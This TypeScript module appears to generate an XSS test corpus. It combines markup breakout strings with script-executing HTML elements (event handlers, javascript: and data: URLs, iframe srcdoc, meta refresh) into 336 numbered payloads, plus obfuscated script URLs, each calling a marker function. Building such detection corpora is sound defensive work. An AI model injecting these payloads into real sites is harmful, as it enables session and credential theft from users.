/** Ways out of where words usually stand in a page. */
const BREAKOUTS = [
  ...['', '">', "'>", '"/>', '--!>', ']]>', '</title>', '</textarea></script>', '</style>', '`>'],
  ...['</span></p></div>', '&lt;/p&gt;', '\\">', '</svg></math>', '${', '{{'],
];

/** Elements that run a script where markup is read. `$` is the number of the payload. */
const ELEMENTS = [
  '<script data-mqx>mqx($)</script>',
  '<script data-mqx src="data:text/javascript,mqx($)"></script>',
  '<img data-mqx src=x onerror=mqx($)>',
  '<img data-mqx src="x" OnErRoR="mqx($)" alt="',
  '<svg data-mqx onload=mqx($)>',
  '<svg data-mqx><script>mqx($)</script></svg>',
  '<svg data-mqx><animate onbegin=mqx($) attributeName=x dur=1s></svg>',
  '<iframe data-mqx srcdoc="<script>parent.mqx($)</script>"></iframe>',
  '<iframe data-mqx src="javascript:parent.mqx($)"></iframe>',
  '<details data-mqx open ontoggle=mqx($)><summary>x</summary></details>',
  '<input data-mqx autofocus onfocus=mqx($)>',
  '<video data-mqx><source onerror=mqx($)></video>',
  '<audio data-mqx src=x onerror=mqx($)></audio>',
  '<object data-mqx data="javascript:mqx($)"></object>',
  '<embed data-mqx src="data:text/html,<script>mqx($)</script>">',
  '<body data-mqx onload=mqx($) onpageshow=mqx($)>',
  '<marquee data-mqx onstart=mqx($)>x</marquee>',
  '<math data-mqx href="javascript:mqx($)">x</math>',
  '<form data-mqx action="javascript:mqx($)"><button autofocus onfocus=mqx($)>x</button></form>',
  '<meta data-mqx http-equiv=refresh content="0;url=javascript:mqx($)">',
  '<p data-mqx style="animation:a 1ms" onanimationstart=mqx($)>x</p>',
];

/** 336 texts, each of which says its number by `mqx` where one of them is taken for markup or script. */
export const PAYLOADS: readonly string[] = BREAKOUTS.flatMap((out) =>
  ELEMENTS.map((element) => `${out}${element}`),
).map((payload, number) => payload.replaceAll('$)', `${String(number)})`));

/** Addresses that run a script, for where an address may stand. */
export const ADDRESSES: readonly string[] = [
  ...['javascript:mqx(-1)', 'JaVaScRiPt:mqx(-1)', ' javascript:mqx(-1)', 'java\nscript:mqx(-1)'],
  ...['data:text/html,<script>mqx(-1)</script>', 'vbscript:mqx(-1)', '\u0001javascript:mqx(-1)'],
  ...['javascript&colon;mqx(-1)', '//javascript:mqx(-1)', 'https://x.example/" onclick="mqx(-1)" x="'],
];
export const addressOf = (number: number): string => ADDRESSES[number % ADDRESSES.length] ?? '';
